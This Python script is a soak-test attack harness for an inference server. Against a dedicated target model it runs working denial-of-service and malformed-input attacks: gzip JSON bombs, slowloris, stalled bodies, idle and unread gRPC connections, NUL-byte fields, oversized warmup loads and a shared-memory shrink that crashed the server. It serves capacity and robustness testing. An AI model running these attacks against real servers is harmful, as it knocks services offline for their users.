#!/usr/bin/env python3
"""Issue 31's attacks at a low rate beside a soak: one attack at a time, each bounded in what it holds.

One attack runs at a time, then --pause-s with nothing held (soak.py samples the server's RSS and descriptors
there), then the next kind in --kinds' default order (json_bomb, stalled_body, stream_noread, idle_conns,
slowloris, nul_bytes, warmup_load, shm_shrink: KINDS says why), round and round; none starts that could
outlast --duration-s.
After each, /v2/health/live on a fresh connection must answer within 10 s.

    attacks.py --grpc HOST:PORT --http HOST:PORT [--model attack_target] [--duration-s 600] [--pause-s 5]
               [--hold-s 15] [--bound-s 60] [--scale 1.0] [--server-pid PID] [--kinds LIST] [--log FILE]
               [--victim-model attack_victim] [--victim-every-s 0.05]
    attacks.py --write-target REPO     writes the target and victim models (below) into REPO and exits

The attacks (issue 31's numbers; 6 FIFOs and 9 symlinks are repository-side, not a client's, and left out):
  warmup_load     1  RepositoryModelLoad of the target with a "config" override carrying --warmup-entries (500)
                     model_warmup entries (count 1000, batch 8 each: within the per-entry budget, large in total:
                     500k runs, ~1-2 minutes of a core; 20 entries at --scale 0.1 took 3-5 s on the 2-core VM)
  idle_conns      2  200 HTTP keep-alive connections (one request answered, then idle) and 100 gRPC ones (the
                     HTTP/2 preface, then nothing), held --hold-s
  slowloris       2  20 HTTP requests sending one header byte every 2 s for 2 x --hold-s
  stalled_body    3  4 REST infer requests announcing 48 MB (x --scale) that send 90 % of it, then stall --hold-s
  json_bomb       4  a gzip body inflating to 32 MB (x --scale) of `[],` in an infer's data; the same plain at
                     16 MB; 100k nested `[`
  stream_noread   5  a ModelStreamInfer call sending 4,000 (x --scale) requests whose answers it never reads,
                     held --hold-s
  nul_bytes       7  NUL inside a model name, request id, input name, datatype and shared memory key (gRPC) and
                     inside a REST body's id and datatype
  shm_shrink      8  a system shared memory region registered, then ftruncate'd to 0 before an inference names it
Every attack names the target model (--model), never the soaked one, so the soaked model's statistics stay
exact. The target is the seed MLP (1024 -> 512 -> 10, FP32, KIND_CPU, max_batch_size 8) that --write-target
writes as REPO/attack_target, with a copy as REPO/attack_victim for the second client: with --victim-model, a
thread sends one valid inference of it every --victim-every-s (50 ms) on a connection of its own, and each
attack's line carries that client's p99 during the attack ("victim_p99_ms") against its p99 in the recent
pauses ("victim_base_p99_ms", "victim_p99_x"): any failed call of it makes the attack unexpected, a p99 over 2x
the pauses' lists the attack in the summary's "victim_slow" (issue 31: "a second client's requests on another
connection keep their normal latency, p99 within 2x"; a Python client's figures, so listed, not judged).
soak.py --attacks writes both and starts the server with --model-control-mode explicit --load-model '*'
--allow-client-shm true (attacks 1 and 8 need them; without them they are refused,
and say so).

Outcomes, one JSON line per attack ({"t_s", "kind", "outcome", "detail", "s"} plus figures):
  refused     a clear refusal: HTTP 4xx/5xx, a gRPC status other than OK, the connection closed by the server;
              "to_refusal_s" says how long it took
  absorbed    the server did the work or held what was asked for the whole bound without refusing (e.g. 200
              idle connections still open after --hold-s, a warmup load that finished): not a failure here
              (the attack cost it nothing it could not afford, or the cap is not there yet); the summary lists
              these kinds as "not_capped"
  unexpected  the server died (--server-pid), stopped answering /v2/health/live after the attack (10 s), gave
              no answer within --bound-s where one was owed, or a second connection opened while the attack
              held its resources was not served within 10 s
A closed connection counts as a refusal: a cap that ends the connection is a clear answer. The attacker holds
one attack's resources at a time and keeps only counters and the first 20 unexpected outcomes in memory; a
previous warmup load that is still running skips the next one ("skipped").
The last line is the summary: {"summary": {"by_kind": {kind: {outcome: n}}, "unexpected": [...], "not_capped":
[...], "attacks": n}}. Exit 0 unless an outcome was unexpected (1).
What main (10447e6) did with them, 2026-12-02, CPU build on the 2-core VM (soak.py --attacks, seed MLP, --scale
0.1 unless said; soak.py's rehearsal):
  refused    nul_bytes: every case, at once (REST 400; gRPC INVALID_ARGUMENT "field 'id' contains a NUL byte")
             json_bomb: 400 for all three, but only after parsing: at --scale 1 the 30 KB gzip body (30 MB of
             `[],`) took 2.4-3.8 s to its 400 and the server's RSS went from 30 MB to ~740 MB meanwhile
  absorbed   idle_conns (300 held, a new connection still served at once), slowloris (20 held 30 s: no header
             timeout), stalled_body (4 x 43 MB at --scale 1 held: no body timeout or bytes-in-flight cap),
             stream_noread (4,000 unread answers at --scale 1, call open), warmup_load (20 entries, 20k runs,
             3-5 s; the default 500 entries, 500k runs, would outlast --bound-s: unexpected, no total cap)
  second client: never failed; its p99 passed 2x the pauses' during idle_conns (4.1x) and a json_bomb (3.2x)
             once each in a 2-minute rehearsal (2-core VM shared with builds: a hint, not a finding)
  unexpected shm_shrink: the server died (SIGBUS, exit -7, nothing logged) on the inference that read the shrunk
             region
Needs Python 3 and, for the gRPC attacks (1, 5, 7's gRPC half, 8), grpcio (messages encoded by hand: no
tritonclient or protobuf); without grpcio they are "skipped". Rehearsed on the CPU build against soak.py's
server; on the device it runs under soak.py --attacks (zoo.sh).
"""

import argparse
import gzip
import json
import os
import socket
import struct
import sys
import time

try:
    import grpc
except ImportError:  # the HTTP attacks still run
    grpc = None

HERE = os.path.dirname(os.path.abspath(__file__))
# the order of a cycle: the attacks that raise the server's memory most first, so that the first cycle's
# high-water marks fall inside the soak's warmup (its drift baseline); the long warmup load late; the shrunk
# shared memory last (it ends a server that lacks the check: the other kinds are seen before that)
KINDS = ("json_bomb", "stalled_body", "stream_noread", "idle_conns", "slowloris", "nul_bytes", "warmup_load",
         "shm_shrink")
TARGET = "attack_target"
VICTIM = "attack_victim"  # the second client's model: the attacks never name it, nor reload it
IN_DIM, OUT_DIM, TARGET_BATCH = 1024, 10, 8


def target_config(name=TARGET, extra=""):
    return ('name: "%s"\nplatform: "onnxruntime_onnx"\nmax_batch_size: %d\n'
            'input [ { name: "input" data_type: TYPE_FP32 dims: [ %d ] } ]\n'
            'output [ { name: "output" data_type: TYPE_FP32 dims: [ %d ] } ]\n'
            'dynamic_batching { max_queue_delay_microseconds: 100 }\n'
            'instance_group [ { kind: KIND_CPU count: 1 } ]\n%s' % (name, TARGET_BATCH, IN_DIM, OUT_DIM, extra))


def write_target(repo, name=TARGET, victim=VICTIM):
    """REPO/name and REPO/victim: the seed MLP (anchor_repo.py's graph, input/output renamed) on one CPU
    instance each; the attacks name the first, the second client (--victim-model) the second."""
    sys.path.insert(0, os.path.join(HERE, "..", "serve_gpu"))
    import onnx
    from anchor_repo import gbm, renamed
    m = renamed(gbm.make_mlp("mlp_1024_512_10", IN_DIM, [512, OUT_DIM]), "input", "output")
    for n in (name, victim):
        d = os.path.join(repo, n)
        os.makedirs(os.path.join(d, "1"), exist_ok=True)
        onnx.save(m, os.path.join(d, "1", "model.onnx"))
        with open(os.path.join(d, "config.pbtxt"), "w") as f:
            f.write(target_config(n))
    return os.path.join(repo, name)


# --- protobuf by hand (the few messages the attacks send; proto/grpc_service.proto's field numbers)

def _varint(n):
    n &= (1 << 64) - 1
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out.append(b | 0x80)
        else:
            out.append(b)
            return bytes(out)


def _ld(field, b):
    if isinstance(b, str):
        b = b.encode("utf-8")
    return _varint(field << 3 | 2) + _varint(len(b)) + b


def _vi(field, n):
    return _varint(field << 3) + _varint(n)


def _param(key, string=None, int64=None):
    """A map<string, InferParameter> entry."""
    v = _ld(3, string) if string is not None else _vi(2, int64)
    return _ld(1, key) + _ld(2, v)


def infer_request(model, rid="", in_name="input", dtype="FP32", rows=1, raw=True, shm=None):
    """ModelInferRequest for the target: one FP32 [rows, 1024] input, raw bytes or from shm (region, size)."""
    shape = _ld(3, b"".join(_varint(d) for d in (rows, IN_DIM)))
    params = b""
    if shm:
        params = _ld(4, _param("shared_memory_region", string=shm[0])) + \
            _ld(4, _param("shared_memory_byte_size", int64=shm[1]))
    msg = _ld(1, model) + (_ld(3, rid) if rid else b"") + _ld(5, _ld(1, in_name) + _ld(2, dtype) + shape + params)
    if raw and not shm:
        msg += _ld(7, bytes(4 * rows * IN_DIM))
    return msg


SVC = "/inference.GRPCInferenceService/"


def grpc_unary(channel, method, req, timeout):
    """(code name, details) of one call; the answer's bytes are not decoded."""
    call = channel.unary_unary(SVC + method, request_serializer=None, response_deserializer=None)
    try:
        call(req, timeout=timeout)
        return "OK", ""
    except grpc.RpcError as e:
        return e.code().name, (e.details() or "")[:200]


# --- HTTP by hand (sockets: the attacks need to stall, trickle and hold)

def http_raw(host, port, data, timeout):
    """Sends data on a fresh connection and reads the answer's status line: (status or None, why, seconds)."""
    t0 = time.monotonic()
    s = socket.create_connection((host, port), timeout=timeout)
    try:
        s.settimeout(timeout)
        try:
            s.sendall(data)
        except OSError:  # the server may refuse while the body is still going in
            pass
        return read_status(s, t0, timeout)
    finally:
        s.close()


def read_status(s, t0, timeout):
    buf = b""
    end = t0 + timeout
    while b"\r\n" not in buf:
        s.settimeout(max(0.05, end - time.monotonic()))
        try:
            got = s.recv(4096)
        except socket.timeout:
            return None, "no answer within %.0f s" % timeout, time.monotonic() - t0
        except OSError as e:
            return 0, "connection reset (%s)" % e.__class__.__name__, time.monotonic() - t0
        if not got:
            return 0, "connection closed by the server", time.monotonic() - t0
        buf += got
    line = buf.split(b"\r\n", 1)[0].decode("latin-1")
    parts = line.split()
    try:
        return int(parts[1]), line[:100], time.monotonic() - t0
    except (IndexError, ValueError):
        return 0, "not HTTP: %r" % line[:60], time.monotonic() - t0


def closed_by_peer(s):
    """True when the server has closed (or reset) s; False while it is open and silent."""
    try:
        s.setblocking(False)
        got = s.recv(65536)
        return not got  # b"": closed; data (an error page) means it answered: still open until it closes
    except BlockingIOError:
        return False
    except OSError:
        return True


class Victim:
    """A second client on its own connection: one valid inference of --victim-model every --victim-every-s, its
    latency kept in a ring (bounded: 4096 entries) so each attack's window can be told from the pauses."""

    def __init__(self, a):
        import threading
        self.a = a
        self.ring = [None] * 4096  # (monotonic end, seconds, ok)
        self.i = 0
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self.run, daemon=True)
        self.thread.start()

    def run(self):
        req = infer_request(self.a.victim_model, rid="v")
        with grpc.insecure_channel(self.a.grpc) as ch:
            call = ch.unary_unary(SVC + "ModelInfer", request_serializer=None, response_deserializer=None)
            while not self.stop.is_set():
                t0 = time.monotonic()
                try:
                    call(req, timeout=30)
                    ok = True
                except grpc.RpcError:
                    ok = False
                t1 = time.monotonic()
                self.ring[self.i % len(self.ring)] = (t1, t1 - t0, ok)
                self.i += 1
                self.stop.wait(max(0.0, self.a.victim_every_s - (t1 - t0)))

    def window(self, lo, hi):
        """(latencies, errors) of the calls that ended within [lo, hi]."""
        got = [x for x in self.ring if x is not None and lo <= x[0] <= hi]
        return sorted(x[1] for x in got if x[2]), sum(1 for x in got if not x[2])


def p99(xs):
    return xs[min(len(xs) - 1, int(0.99 * len(xs)))] if xs else None


class Attacker:
    def __init__(self, a):
        self.a = a
        self.gh, gp = a.grpc.rsplit(":", 1)
        self.hh, hp = a.http.rsplit(":", 1)
        self.gp, self.hp = int(gp), int(hp)
        self.t0 = time.monotonic()
        self.by_kind = {}
        self.unexpected = []
        self.slow = []  # attacks during which the second client's p99 passed 2x the pauses'
        self.n = 0
        self.load_pending_until = 0.0  # a warmup load that outlived its bound may still run in the server
        self.log = open(a.log, "a") if a.log else None
        self.victim = Victim(a) if a.victim_model and grpc is not None else None
        self.quiet = []  # (lo, hi) of the recent pauses: the victim's baseline

    # --- helpers

    def channel(self):
        return grpc.insecure_channel(self.a.grpc, options=[("grpc.max_send_message_length", 256 << 20),
                                                          ("grpc.max_receive_message_length", 256 << 20)])

    def server_dead(self):
        if not self.a.server_pid:
            return False
        try:
            with open("/proc/%d/stat" % self.a.server_pid) as f:
                return f.read().split(")")[-1].split()[0] in ("Z", "X")
        except OSError:
            return True

    def live(self, timeout=10.0):
        """(ok, seconds) of GET /v2/health/live on a fresh connection."""
        st, why, secs = self.http_get("/v2/health/live", timeout)
        return st == 200, secs, why

    def http_get(self, path, timeout):
        req = ("GET %s HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n" % path).encode()
        try:
            return http_raw(self.hh, self.hp, req, timeout)
        except OSError as e:
            return None, "connect failed: %s" % e, timeout

    def infer_post(self, body, extra_headers="", model=None):
        return ("POST /v2/models/%s/infer HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                "Content-Length: %d\r\n%s\r\n" % (model or self.a.model, len(body), extra_headers)).encode() + body

    def fresh_probe(self):
        """While an attack holds its resources: is a new connection still served? (ok, seconds, why)"""
        return self.live(10.0)

    # --- the attacks: each returns (outcome, detail, figures)

    def warmup_load(self):
        if grpc is None:
            return "skipped", "no grpcio", {}
        if time.monotonic() < self.load_pending_until:
            return "skipped", "the previous warmup load may still run in the server", {}
        n = max(1, int(self.a.warmup_entries * self.a.scale))
        entries = ",\n".join('{ name: "w%d" batch_size: %d count: 1000 inputs { key: "input" value { data_type: '
                             'TYPE_FP32 dims: [ %d ] zero_data: true } } }' % (i, TARGET_BATCH, IN_DIM)
                             for i in range(n))
        cfg = target_config(self.a.model, "model_warmup [\n%s\n]\n" % entries)
        req = _ld(2, self.a.model) + _ld(3, _ld(1, "config") + _ld(2, _ld(3, cfg)))
        t0 = time.monotonic()
        with self.channel() as ch:
            code, det = grpc_unary(ch, "RepositoryModelLoad", req, self.a.bound_s)
        secs = time.monotonic() - t0
        fig = {"entries": n, "runs": n * 1000, "config_bytes": len(cfg), "to_answer_s": round(secs, 2)}
        if code == "OK":
            return "absorbed", "loaded: %d warmup runs of batch %d in %.1f s" % (n * 1000, TARGET_BATCH, secs), fig
        if code == "DEADLINE_EXCEEDED":
            self.load_pending_until = time.monotonic() + 10 * self.a.bound_s
            return "unexpected", "no answer to the load within %.0f s (the warmup runs on)" % self.a.bound_s, fig
        fig["to_refusal_s"] = round(secs, 2)
        return "refused", "%s: %s" % (code, det), fig

    def _hold(self, socks, hold_s, tick=None):
        """Holds socks up to hold_s (tick(i, s) every 2 s keeps each alive); returns (closed count, first close s,
        fresh-probe result at mid-hold)."""
        t0 = time.monotonic()
        closed, first, probe = set(), None, None
        while time.monotonic() - t0 < hold_s and len(closed) < len(socks):
            for i, s in enumerate(socks):
                if i not in closed and closed_by_peer(s):
                    closed.add(i)
                    first = first if first is not None else time.monotonic() - t0
                elif i not in closed and tick:
                    try:
                        tick(i, s)
                    except OSError:
                        closed.add(i)
                        first = first if first is not None else time.monotonic() - t0
            if probe is None and time.monotonic() - t0 >= min(2.0, hold_s / 2):
                probe = self.fresh_probe()
            time.sleep(min(2.0, max(0.0, hold_s - (time.monotonic() - t0))))
        if probe is None:
            probe = self.fresh_probe()
        return len(closed), first, probe

    def _open(self, port, n, first_bytes=b""):
        socks = []
        for _ in range(n):
            try:
                s = socket.create_connection((self.hh if port == self.hp else self.gh, port), timeout=5)
            except OSError:
                break  # refused at connect: a cap (counted by the caller as short of n)
            if first_bytes:
                try:
                    s.sendall(first_bytes)
                except OSError:
                    pass
            socks.append(s)
        return socks

    def _verdict(self, what, n_want, socks, closed, first, probe, hold_s):
        fig = {"opened": len(socks), "wanted": n_want, "closed_by_server": closed,
               "to_refusal_s": None if first is None else round(first, 2),
               "fresh_connection_ok": probe[0], "fresh_connection_s": round(probe[1], 3)}
        if not probe[0]:
            return "unexpected", "%s held: a new connection was not served within 10 s (%s)" % (what, probe[2]), fig
        if closed or len(socks) < n_want:
            return "refused", "%s: %d of %d refused at connect, %d of %d closed by the server" % (
                what, n_want - len(socks), n_want, closed, len(socks)), fig
        return "absorbed", "%s: all %d held open %.0f s" % (what, len(socks), hold_s), fig

    def idle_conns(self):
        n_http, n_grpc = max(1, int(200 * min(1.0, self.a.scale * 4))), max(1, int(100 * min(1.0, self.a.scale * 4)))
        socks = self._open(self.hp, n_http)
        for s in socks:  # one answered request each: a keep-alive connection, then silence
            try:
                s.sendall(b"GET /v2/health/live HTTP/1.1\r\nHost: x\r\n\r\n")
            except OSError:
                pass
        answered = 0
        for s in socks:
            s.settimeout(5)
            try:
                answered += bool(s.recv(4096))
            except OSError:
                pass
        # the HTTP/2 preface and an empty SETTINGS frame, then nothing
        settings = struct.pack(">I", 0)[1:] + b"\x04\x00" + struct.pack(">I", 0)  # length 0, SETTINGS, stream 0
        gsocks = self._open(self.gp, n_grpc, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + settings)
        try:
            closed, first, probe = self._hold(socks + gsocks, self.a.hold_s)
        finally:
            for s in socks + gsocks:
                s.close()
        out, det, fig = self._verdict("%d HTTP keep-alive + %d gRPC idle connections" % (n_http, n_grpc),
                                      n_http + n_grpc, socks + gsocks, closed, first, probe, self.a.hold_s)
        fig["http_answered_first"] = answered
        return out, det, fig

    def slowloris(self):
        n = 20
        socks = self._open(self.hp, n, ("POST /v2/models/%s/infer HTTP/1.1\r\nHost: x\r\n" % self.a.model).encode())
        hold = 2 * self.a.hold_s

        def trickle(i, s):
            s.sendall(b"X" if (int(time.monotonic()) + i) % 7 else b"-")  # one header byte per tick, never a newline
        try:
            closed, first, probe = self._hold(socks, hold, trickle)
        finally:
            for s in socks:
                s.close()
        return self._verdict("%d slowloris header streams (1 byte / 2 s)" % n, n, socks, closed, first, probe, hold)

    def stalled_body(self):
        n, size = 4, max(1 << 20, int(48e6 * self.a.scale))
        head = ("POST /v2/models/%s/infer HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                "Content-Length: %d\r\n\r\n" % (self.a.model, size)).encode()
        chunk = b" " * (1 << 20)  # JSON whitespace: a valid start of a body that never ends
        socks, refused_early, t0 = [], 0, time.monotonic()
        for s in self._open(self.hp, n, head):
            sent = 0
            s.settimeout(10)
            try:
                while sent < int(0.9 * size):
                    sent += s.send(chunk[:min(len(chunk), int(0.9 * size) - sent)])
                socks.append(s)
            except OSError:  # the server refused (413, closed) or stopped reading (a cap on bodies in flight)
                refused_early += 1
                s.close()
        try:
            closed, first, probe = self._hold(socks, self.a.hold_s)
        finally:
            for s in socks:
                s.close()
        out, det, fig = self._verdict("%d bodies of %d MB stalled at 90 %%" % (n, size >> 20), n, socks,
                                      closed + refused_early, first, probe, self.a.hold_s)
        if refused_early and first is None:
            fig["to_refusal_s"] = round(time.monotonic() - t0, 2)
        fig["refused_while_sending"] = refused_early
        return out, det, fig

    def json_bomb(self):
        big = int(32e6 * self.a.scale) // 3
        plain_n = int(16e6 * self.a.scale) // 3
        head = b'{"inputs":[{"name":"input","shape":[1,1024],"datatype":"FP32","data":['
        tail = b'[]]}]}'
        if getattr(self, "_bomb", None) is None or self._bomb[0] != big:
            self._bomb = (big, gzip.compress(head + b"[]," * big + tail, 9))  # kept: a small body, made once
        cases = [("gzip %d MB -> %d KB" % (big * 3 >> 20, len(self._bomb[1]) >> 10),
                  self.infer_post(self._bomb[1], "Content-Encoding: gzip\r\n")),
                 ("plain %d MB of []" % (plain_n * 3 >> 20), self.infer_post(head + b"[]," * plain_n + tail)),
                 ("100k nested [", self.infer_post(head[:-1] + b"[" * 100000))]
        return self._cases(cases, lambda data: http_raw(self.hh, self.hp, data, self.a.bound_s))

    def _cases(self, cases, send):
        """Sends each (name, data); refused when every answer is a refusal; figures per case."""
        res, worst = {}, "refused"
        for name, data in cases:
            try:
                st, why, secs = send(data)
            except OSError as e:
                st, why, secs = 0, "connect failed: %s" % e, 0.0
            res[name] = {"status": st, "s": round(secs, 3), "why": why[:120]}
            if st is None:
                worst = "unexpected"
            elif isinstance(st, int) and 200 <= st < 300 or st == "OK":
                worst = "absorbed" if worst == "refused" else worst
        detail = "; ".join("%s: %s" % (k, v["status"]) for k, v in res.items())
        return worst, detail, {"cases": res, "to_refusal_s": max(v["s"] for v in res.values())}

    def stream_noread(self):
        if grpc is None:
            return "skipped", "no grpcio", {}
        n = max(10, int(4000 * self.a.scale))
        req = infer_request(self.a.model, rid="s")
        sent = [0]

        def gen():
            for _ in range(n):
                sent[0] += 1
                yield req
        t0 = time.monotonic()
        with self.channel() as ch:
            call = ch.stream_stream(SVC + "ModelStreamInfer", request_serializer=None,
                                    response_deserializer=None)(gen(), timeout=self.a.hold_s + 5)
            probe, end = None, t0 + self.a.hold_s
            while time.monotonic() < end and not call.done():
                if probe is None and time.monotonic() - t0 > 2:
                    probe = self.fresh_probe()
                time.sleep(0.2)
            probe = probe or self.fresh_probe()
            done = call.done()
            code = call.code().name if done else None
            det = (call.details() or "")[:200] if done else ""
            secs = time.monotonic() - t0
            call.cancel()
        fig = {"requests": n, "sent": sent[0], "fresh_connection_ok": probe[0],
               "fresh_connection_s": round(probe[1], 3)}
        if not probe[0]:
            return "unexpected", "a new connection was not served within 10 s (%s)" % probe[2], fig
        if done and code not in ("OK", "DEADLINE_EXCEEDED"):
            fig["to_refusal_s"] = round(secs, 2)
            return "refused", "%s after %d sent: %s" % (code, sent[0], det), fig
        return "absorbed", "%d of %d requests sent, none read, call %s after %.0f s" % (
            sent[0], n, "ended %s" % code if done else "still open", secs), fig

    def nul_bytes(self):
        m = self.a.model
        body = lambda rid, dt: json.dumps({"id": rid, "inputs": [{"name": "input", "shape": [1, IN_DIM],  # noqa: E731
                                           "datatype": dt, "data": [0.0] * IN_DIM}]}).encode()
        cases = [("rest id", self.infer_post(body("a\u0000b", "FP32"))),
                 ("rest datatype", self.infer_post(body("x", "FP\u000032"))),
                 ("rest model %00", self.infer_post(body("x", "FP32"), model=m + "%00x"))]
        res = self._cases(cases, lambda data: http_raw(self.hh, self.hp, data, self.a.bound_s))
        if grpc is None:
            return res
        g = [("grpc model name", "ModelInfer", infer_request(m + "\0x")),
             ("grpc id", "ModelInfer", infer_request(m, rid="a\0b")),
             ("grpc input name", "ModelInfer", infer_request(m, in_name="input\0")),
             ("grpc datatype", "ModelInfer", infer_request(m, dtype="FP\x0032")),
             ("grpc shm key", "SystemSharedMemoryRegister", _ld(1, "nul") + _ld(2, "/inferd_attack\0x") +
              _vi(4, 4096))]
        with self.channel() as ch:
            gres = self._cases([(name, (meth, req)) for name, meth, req in g],
                               lambda mr: self._grpc_case(ch, *mr))
            grpc_unary(ch, "SystemSharedMemoryUnregister", _ld(1, "nul"), 10)  # in case it was taken
        worst = max((res[0], gres[0]), key=("refused", "absorbed", "unexpected").index)
        res[2]["cases"].update(gres[2]["cases"])
        return worst, res[1] + "; " + gres[1], {"cases": res[2]["cases"],
                                               "to_refusal_s": max(res[2]["to_refusal_s"], gres[2]["to_refusal_s"])}

    def _grpc_case(self, ch, meth, req):
        t0 = time.monotonic()
        code, det = grpc_unary(ch, meth, req, self.a.bound_s)
        return (None if code == "DEADLINE_EXCEEDED" else code), "%s %s" % (code, det), time.monotonic() - t0

    def shm_shrink(self):
        if grpc is None:
            return "skipped", "no grpcio", {}
        name = "inferd_attack_%d" % os.getpid()
        path, size = "/dev/shm/" + name, 4 * IN_DIM
        fd = os.open(path, os.O_CREAT | os.O_RDWR | os.O_TRUNC, 0o600)
        try:
            os.ftruncate(fd, size)
            with self.channel() as ch:
                code, det = grpc_unary(ch, "SystemSharedMemoryRegister",
                                       _ld(1, name) + _ld(2, "/" + name) + _vi(4, size), 10)
                if code != "OK":
                    return "refused", "register: %s %s (the shrink was not reached)" % (code, det), {}
                os.ftruncate(fd, 0)  # shrunk under the server's mapping
                t0 = time.monotonic()
                code, det = grpc_unary(ch, "ModelInfer", infer_request(self.a.model, shm=(name, size)), self.a.bound_s)
                secs = time.monotonic() - t0
                grpc_unary(ch, "SystemSharedMemoryUnregister", _ld(1, name), 10)
        finally:
            os.close(fd)
            try:
                os.unlink(path)
            except OSError:
                pass
        fig = {"to_refusal_s": round(secs, 3)}
        if self.server_dead():
            return "unexpected", "the server died on the inference (%s)" % code, fig
        if code == "DEADLINE_EXCEEDED":
            return "unexpected", "no answer within %.0f s" % self.a.bound_s, fig
        if code == "OK":
            return "absorbed", "inference from the shrunk region answered OK", fig
        return "refused", "%s: %s" % (code, det), fig

    def victim_figures(self, lo, hi):
        """The second client's p99 during the attack against the recent pauses', and its errors: an error there
        is the attack reaching another client, unexpected; a p99 over 2x the pauses' is listed ("victim_slow")."""
        lat, err = self.victim.window(lo, hi)
        base = []
        for qlo, qhi in self.quiet:
            base += self.victim.window(qlo, qhi)[0]
        base.sort()
        during, before = p99(lat), p99(base)
        fig = {"victim_calls": len(lat) + err, "victim_errors": err,
               "victim_p99_ms": None if during is None else round(during * 1e3, 2),
               "victim_base_p99_ms": None if before is None else round(before * 1e3, 2)}
        if during is not None and before and len(base) >= 20:
            fig["victim_p99_x"] = round(during / before, 2)
        return fig

    # --- the loop

    def record(self, kind, outcome, detail, fig, secs):
        self.n += 1
        line = dict({"t_s": round(time.monotonic() - self.t0, 1), "kind": kind, "outcome": outcome,
                     "detail": detail, "s": round(secs, 2)}, **fig)
        k = self.by_kind.setdefault(kind, {})
        k[outcome] = k.get(outcome, 0) + 1
        if fig.get("victim_p99_x", 0) > 2 and len(self.slow) < 20:
            self.slow.append({"kind": kind, "t_s": line["t_s"], "x": fig["victim_p99_x"]})
        if outcome == "unexpected" and len(self.unexpected) < 20:
            self.unexpected.append({"kind": kind, "t_s": line["t_s"], "detail": detail})
        text = json.dumps(line)
        print(text, flush=True)
        if self.log:
            self.log.write(text + "\n")
            self.log.flush()

    def max_len(self, kind):
        """How long one attack of kind may take: none starts that could outlast --duration-s."""
        hold = {"slowloris": 2 * self.a.hold_s, "idle_conns": self.a.hold_s, "stalled_body": self.a.hold_s + 10,
                "stream_noread": self.a.hold_s}.get(kind, 0.0)
        return max(hold + 12, 15.0 if kind != "warmup_load" else self.a.bound_s + 2)

    def run(self):
        kinds = [k for k in (self.a.kinds.split(",") if self.a.kinds else KINDS)]
        end = self.t0 + self.a.duration_s
        i = 0
        while time.monotonic() + self.max_len(kinds[i % len(kinds)]) <= end:
            kind = kinds[i % len(kinds)]
            i += 1
            start, wall = time.monotonic(), time.time()
            try:
                outcome, detail, fig = getattr(self, kind)()
            except Exception as e:  # noqa: BLE001 - the attacker's own failure: said, never silent
                outcome, detail, fig = "error", "%s: %s" % (e.__class__.__name__, str(e)[:200]), {}
            secs = time.monotonic() - start
            if self.victim:
                fig = dict(fig, **self.victim_figures(start, time.monotonic()))
            fig = dict(fig, start_unix=round(wall, 2), end_unix=round(time.time(), 2))  # soak.py's quiet samples
            if outcome not in ("skipped", "error"):
                if fig.get("victim_errors"):
                    outcome, detail = "unexpected", "%d of the second client's calls failed; %s" % (
                        fig["victim_errors"], detail)
                if self.server_dead():
                    outcome, detail = "unexpected", "server died (%s)" % detail
                else:
                    ok, _, why = self.live()
                    if not ok:
                        outcome, detail = "unexpected", "server not live 10 s after the attack (%s); %s" % (why, detail)
            self.record(kind, outcome, detail, fig, secs)
            if self.server_dead():
                break
            # a pause with nothing held: the server's RSS and descriptors are sampled there (soak.py)
            p0 = time.monotonic()
            time.sleep(max(0.0, min(self.a.pause_s, end - time.monotonic())))
            self.quiet = (self.quiet + [(p0 + 1.0, time.monotonic())])[-12:]
        if self.victim:
            self.victim.stop.set()
        summary = {"attacks": self.n, "by_kind": self.by_kind, "unexpected": self.unexpected,
                   "not_capped": sorted(k for k, v in self.by_kind.items() if v.get("absorbed")),
                   "errors": sorted(k for k, v in self.by_kind.items() if v.get("error")),
                   "victim_slow": self.slow[:20],
                   "server_died": self.server_dead()}
        print(json.dumps({"summary": summary}), flush=True)
        return 1 if self.unexpected or summary["server_died"] else 0


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--write-target", metavar="REPO")
    ap.add_argument("--grpc", help="HOST:PORT")
    ap.add_argument("--http", help="HOST:PORT")
    ap.add_argument("--model", default=TARGET, help="the model every attack names (never the soaked one)")
    ap.add_argument("--duration-s", type=float, default=600)
    ap.add_argument("--pause-s", type=float, default=5, help="nothing held between two attacks for this long")
    ap.add_argument("--hold-s", type=float, default=15, help="how long a holding attack holds (slowloris: twice)")
    ap.add_argument("--bound-s", type=float, default=60, help="an owed answer later than this is unexpected")
    ap.add_argument("--scale", type=float, default=1.0, help="sizes x this (bodies, bombs, streams, warmups)")
    ap.add_argument("--warmup-entries", type=int, default=500)
    ap.add_argument("--server-pid", type=int, default=0)
    ap.add_argument("--victim-model", default="", help="a second client's model (e.g. attack_victim, written "
                    "with the target); none: no second client")
    ap.add_argument("--victim-every-s", type=float, default=0.05)
    ap.add_argument("--kinds", default="", help="comma list (default: all, in order: %s)" % ",".join(KINDS))
    ap.add_argument("--log", default="", help="also append the JSON lines here")
    a = ap.parse_args()
    if a.write_target:
        print(write_target(a.write_target))
        return 0
    if not a.grpc or not a.http:
        ap.error("--grpc and --http are needed")
    bad = [k for k in a.kinds.split(",") if k and k not in KINDS]
    if bad:
        ap.error("unknown kinds %s (have %s)" % (bad, ",".join(KINDS)))
    return Attacker(a).run()


if __name__ == "__main__":
    sys.exit(main())
